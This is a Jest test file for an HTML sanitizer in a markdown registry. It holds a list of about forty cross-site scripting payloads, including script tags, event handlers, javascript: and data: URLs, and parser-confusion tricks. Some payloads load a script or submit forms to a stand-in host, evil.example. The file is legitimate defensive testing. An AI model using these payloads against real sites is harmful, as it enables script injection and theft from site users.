import { describe, expect, test } from '@jest/globals';
import { sanitizeMarkup } from '../../../packages/registry/src/web/markdown/sanitizeMarkup.ts';
import { markupProblems } from '../../helpers/markupProblems.ts';

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<p/onclick=alert(1)>a',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\tscript:alert(1)">a</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="https://a.example" target="_blank" style="x" onclick="y">a</a>',
  '<a href=\'https://a.example/"onclick="alert(1)\'>a</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="width:expression(alert(1));background:url(javascript:alert(1))">a</p>',
  '<div class="scroll skip" id="main">a</div>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input type=submit><button formaction=x>b</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content=0>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p>a<p><p></em></strong><table><p>b</table>',
  '<a href="https://a.example"><a href="https://b.example">x</a></a>',
  '<p title="<script>">a</p>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<plaintext><script>alert(1)</script>',
  '\u0000<\u0000script>alert(1)</script>',
  `${'<div>'.repeat(5_000)}<script>alert(1)</script>`,
  '<em><a href="https://a.example">'.repeat(3_000),
];

describe('sanitizeMarkup', () => {
  test.each(HOSTILE.map((html) => [html.slice(0, 70), html]))('disarms %s (T20)', (_name, html) => {
    const clean = sanitizeMarkup(html);
    expect(markupProblems(clean)).toEqual([]);
    expect(clean).not.toMatch(/alert\(1\)<\/script|javascript:alert\(1\)"/i);
  });

  test('leaves nothing that a second reading turns into something else (T20)', () => {
    for (const html of HOSTILE) {
      const twice = sanitizeMarkup(sanitizeMarkup(html));
      expect(sanitizeMarkup(twice)).toBe(twice);
    }
  });

  test('keeps what Markdown makes', () => {
    const html =
      '<h3>a</h3><p>b <em>c</em> <code>&lt;d&gt;</code></p><ol start="3"><li>e</li></ol><hr />';
    expect(sanitizeMarkup(html)).toBe(html);
  });
});
